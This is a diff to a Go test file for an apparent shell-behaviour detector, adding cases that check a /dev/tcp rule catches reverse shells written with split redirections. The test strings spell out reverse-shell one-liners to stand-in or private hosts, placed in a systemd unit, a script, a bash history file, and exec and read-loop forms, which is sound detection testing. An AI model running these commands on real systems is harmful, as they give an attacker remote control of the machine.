@@ -44,6 +44,11 @@ func TestShellBehaviour(t *testing.T) {
 		label            audit.Category
 	}{
 		{name: "bash dev tcp", path: "/usr/local/bin/u", text: "#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.45/4444 0>&1\n", want: []string{RuleDevTCP}, cat: audit.CategoryReverseShell},
+		// Redirections split by a blank: bash rejects the line, but it is a reverse shell someone meant to run.
+		{name: "dev tcp split dup in a unit's bash -c", path: "/etc/systemd/system/x.service", text: "[Service]\nType=oneshot\nExecStart=/bin/bash -c \"bash -i > & /dev/tcp/10.9.179.188/1234 0>&1\"\n[Install]\nWantedBy=multi-user.target\n", want: []string{RuleDevTCP}},
+		{name: "dev tcp split dup in a script", path: "/opt/x.sh", text: "#!/bin/bash\nif true; then\nbash -i > &/dev/tcp/203.0.113.45/4444 0< &1\nfi\n", want: []string{RuleDevTCP}},
+		{name: "dev tcp split dup in history", path: "/root/.bash_history", text: "cd /tmp\nsh -i >  & /dev/udp/203.0.113.45/53 0>&1\nls\n", want: []string{RuleDevTCP}},
+		{name: "split dup to a log", path: "/opt/x.sh", text: "#!/bin/bash\nif true; then\nmake all > & build.log\nfi\n"},
 		{name: "dev tcp vars", path: "/opt/x.sh", text: "H=203.0.113.45\nP=4444\nbash -i >& /dev/tcp/$H/$P 0>&1\n", want: []string{RuleDevTCP}},
 		{name: "exec fd", path: "/root/.bash_history", text: "0<&196;exec 196<>/dev/tcp/attacker.example.net/9001; sh <&196 >&196 2>&196\n", want: []string{RuleDevTCP}},
 		{name: "read loop", path: "/opt/r.sh", text: "exec 5<>/dev/tcp/203.0.113.9/80\ncat <&5 | while read line; do $line 2>&5 >&5; done\n", want: []string{RuleCmdLoop}},
